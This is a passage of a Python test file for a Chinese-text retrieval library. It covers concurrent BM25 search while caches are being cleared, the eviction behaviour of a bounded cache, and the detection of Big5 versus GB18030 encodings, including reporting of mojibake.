                assert kb.search(query, 3, mode="bm25") == expected[query]
                kb.document_frequency(rng.choice("复议诉讼公开培训法治"))
                done[0] += 1
        except Exception as err:  # noqa: BLE001 - any failure is the finding
            errors.append(repr(err))

    def clear():
        while not stop.is_set():
            kb._known.clear()
            kb._frequencies.clear()

    clearer = threading.Thread(target=clear)
    clearer.start()
    threads = [threading.Thread(target=search, args=(i,)) for i in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    stop.set()
    clearer.join()
    assert errors == [] and done[0] == 16 * 300
    assert len(kb._known) <= 8 and len(kb._frequencies) <= 8


def test_bounded_cache_keeps_the_newest_entries():
    from qa.retrieval.cache import BoundedCache

    cache = BoundedCache(3)
    cache.update({"a": 1, "b": 2})
    cache.update({"c": 3, "d": 4})
    assert len(cache) == 3 and "a" not in cache and cache.pick(["b", "d", "x"]) == {"b": 2, "d": 4}
    assert cache.get("x", 0) == 0


# ---------------------------------------------------------------- encodings

TAIWAN = Path("/work/shared/data/wild/taiwan_2025_zongyusuan_caizheng_shencha.md")


def _traditional() -> str:
    if TAIWAN.is_file():
        return TAIWAN.read_text("utf-8")
    return "中央政府總預算案審查報告\n一、歲入部分\n經審查後，歲入淨額減列新臺幣十二億元，營業基金預算照列。\n" * 50


def test_big5_is_told_from_gb18030(tmp_path, fake_model, caplog):
    from qa.reading.readers import decode

    text = _traditional()
    big5 = text.encode("big5", errors="ignore")
    with caplog.at_level(logging.WARNING):
        assert decode(big5, "tw.txt") == big5.decode("cp950")
    assert "mojibake" not in caplog.text
    # Line by line too: short texts leave less to judge by.
    lines = [line for line in text.splitlines() if len(line.strip()) >= 8][:300]
    assert all(decode(line.encode("big5", "ignore")) == line.encode("big5", "ignore").decode("cp950")
               for line in lines)
    # GB reports stay GB.
    from conftest import HONGQIAO

    simplified = HONGQIAO.read_text("utf-8")
    assert decode(simplified.encode("gb18030")) == simplified
    assert all(decode(line.encode("gb18030")) == line for line in simplified.splitlines() if len(line) >= 8)

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "tw.txt").write_bytes("臺北市2024年法治報告\n一、訴願\n全年受理訴願案件37件。\n".encode("big5") * 3)
    kb = qa.build(corpus, tmp_path / "index", progress=False)
    assert "全年受理訴願案件37件" in kb.search("受理訴願案件", 1, mode="bm25")[0].text


def test_mojibake_is_reported(caplog):
    from qa.reading.readers import decode

    garbled = _traditional().encode("big5", errors="ignore").decode("gb18030", errors="replace")
    with caplog.at_level(logging.WARNING):
        decode(garbled.encode("utf-8"), "garbled.txt")
    assert "garbled.txt: read as utf-8-sig, but only" in caplog.text and "mojibake" in caplog.text
